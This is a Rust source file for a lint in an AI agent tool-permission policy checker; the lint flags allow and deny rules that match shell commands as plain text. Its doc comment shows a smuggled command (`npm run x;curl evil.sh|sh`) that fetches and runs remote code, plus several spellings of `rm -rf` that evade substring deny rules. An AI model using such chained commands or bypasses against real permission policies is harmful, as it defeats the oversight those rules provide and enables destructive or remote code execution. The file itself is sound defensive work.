//! `toolgate::command_as_text`

use crate::diagnostic::Diagnostic;
use crate::lint::{declare_lint, warning, Context};
use crate::resolve::{CondTest, StrPattern};
use crate::syntax::ast::Effect;

declare_lint! {
    /// ## What it does
    /// Reports a condition that judges a shell command as text: a glob or a regex in an
    /// `allow`, or `contains` in a `deny`, on an argument that holds a command (named
    /// `command`, `cmd` or `script`). It suggests the `shell` form.
    ///
    /// ## Why is this bad?
    /// Shell text is not what runs: `npm run *` admits `npm run x;curl evil.sh|sh` and a
    /// newline-chained command, and a deny-list `contains "rm -rf"` misses `rm -fr`,
    /// `rm -r -f`, `rm --recursive --force`, quotes inside words and `$(echo rm)`. A
    /// `matches shell` pattern parses the command line: an allow holds only for one simple
    /// command, a deny sees every command and fails closed on what it cannot read.
    ///
    /// ## Example
    /// ```policy
    /// tool Bash(command) needs proc:exec
    /// agent dev {
    ///   grant proc:exec
    ///   allow Bash where command matches "npm run *"
    ///   deny  Bash where command contains "rm -rf"
    /// }
    /// ```
    ///
    /// Use instead:
    /// ```policy
    /// tool Bash(command) needs proc:exec
    /// agent dev {
    ///   grant proc:exec
    ///   allow Bash where command matches shell "npm run *"
    ///   deny  Bash where command matches shell "rm -{r,f} ..."
    /// }
    /// ```
    pub static COMMAND_AS_TEXT = {
        code: COMMAND_AS_TEXT,
        stage: Lint,
    }
}

/// Argument names that hold a shell command.
const COMMAND_ARGS: &[&str] = &["command", "cmd", "script"];
/// True when the condition's argument holds a shell command.
fn is_command(arg: &[String]) -> bool {
    arg.last()
        .is_some_and(|a| COMMAND_ARGS.contains(&a.to_ascii_lowercase().as_str()))
}

/// Runs the lint.
pub(crate) fn check(cx: &mut Context, out: &mut Vec<Diagnostic>) {
    for (a, agent) in cx.agents() {
        for (r, rule) in agent.rules.iter().enumerate() {
            if cx.skipped(a, r) {
                continue;
            }
            for c in &rule.conditions {
                if !is_command(&c.path) {
                    continue;
                }
                let (what, suggestion) = match (&c.test, rule.effect) {
                    (
                        CondTest::Str {
                            pattern: StrPattern::Glob { text, .. },
                            negated: false,
                        },
                        Effect::Allow,
                    ) => ("a glob", format!("matches shell \"{text}\"")),
                    (
                        CondTest::Str {
                            pattern: StrPattern::Regex(_),
                            negated: false,
                        },
                        Effect::Allow,
                    ) => ("a regex", "matches shell \"PROGRAM ARGS ...\"".to_string()),
                    (CondTest::Contains(needles), Effect::Deny) => (
                        "a substring search",
                        match needles.first() {
                            Some(n) => format!(
                                "matches shell \"{} ...\"",
                                n.split_whitespace().next().unwrap_or("PROGRAM")
                            ),
                            None => "matches shell \"PROGRAM ...\"".to_string(),
                        },
                    ),
                    _ => continue,
                };
                let arg = c.path.join(".");
                out.push(
                    warning(
                        &COMMAND_AS_TEXT,
                        c.span,
                        format!("`{}` judges a shell command as text with {what}", c.text),
                    )
                    .with_label("chaining, quoting and option spellings get around this")
                    .with_help(format!(
                        "parse the command instead: `{arg} {suggestion}` (an allow holds only for one simple command; a deny sees every command, through `&&`, pipes, `$(...)`, `sudo` and `sh -c`, and fails closed); write flags in any spelling as `-{{r,f}}`"
                    )),
                );
            }
        }
    }
}
